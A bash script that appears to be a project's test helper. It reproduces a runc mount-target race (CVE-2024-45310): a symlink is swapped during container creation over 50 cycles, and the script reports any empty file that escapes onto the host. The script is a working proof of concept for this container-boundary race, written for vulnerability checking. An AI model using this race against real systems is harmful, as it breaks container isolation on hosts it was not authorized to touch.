#!/usr/bin/env bash
# runc-mount-race.sh [WORKDIR]: reproduce, with runc alone (no nvbind), the mount-target race
# that tests/e2e/hostile_images.bats finds through nvbind-runtime: a bind mount whose
# destination lies under a directory of the image that another process exchanges with a
# symlink to a host directory. runc resolves the destination inside the root, then creates
# the missing target file by path: when the exchange falls in between, the empty file is
# created on the host (runc's CVE-2024-45310, fixed in runc 1.1.14). Prints what appeared on
# the host and exits 1, or exits 0 after 50 clean cycles. Needs root, runc, busybox, python3.
set -uo pipefail
here=$(cd "$(dirname "$0")" && pwd)
W=${1:-$(mktemp -d)}
mkdir -p "$W"
rm -rf "$W/host" "$W/b" "$W/stop" "$W/state"
mkdir -p "$W/host/lib" "$W/b/rootfs/bin" "$W/b/rootfs/usr/local/nvidia/lib64" "$W/b/rootfs/proc" \
	"$W/b/rootfs/dev" "$W/b/rootfs/sys"
cp /bin/busybox "$W/b/rootfs/bin/busybox"
ln -sf busybox "$W/b/rootfs/bin/sh"
ln -s "$W/host/lib" "$W/b/rootfs/usr/local/nvidia/lib64.swap"
echo data >"$W/libfoo.so.1"
(cd "$W/b" && runc spec)
jq --arg s "$W/libfoo.so.1" '.process.terminal = false | .process.args = ["/bin/sh", "-c", "sleep 30"]
	| .mounts += [range(20) | {destination: "/usr/local/nvidia/lib64/libfoo.so.\(.)", type: "bind",
		source: $s, options: ["rbind", "ro"]}]' "$W/b/config.json" >"$W/b/config.tmp"
mv "$W/b/config.tmp" "$W/b/config.json"
"$here/swap-paths.py" "$W/stop" 120 "$W/b/rootfs/usr/local/nvidia/lib64" \
	"$W/b/rootfs/usr/local/nvidia/lib64.swap" >/dev/null &
swapper=$!
rc=0
for i in $(seq 50); do
	runc --root "$W/state" create -b "$W/b" "r$i" </dev/null >/dev/null 2>&1
	runc --root "$W/state" delete --force "r$i" >/dev/null 2>&1
	if [ -n "$(ls -A "$W/host/lib")" ]; then
		echo "cycle $i: $(runc --version | head -1) created on the host, in $W/host/lib:"
		ls -la "$W/host/lib"
		rc=1
		break
	fi
done
touch "$W/stop"
wait "$swapper"
[ "$rc" -eq 0 ] && echo "50 cycles: nothing appeared on the host"
exit "$rc"
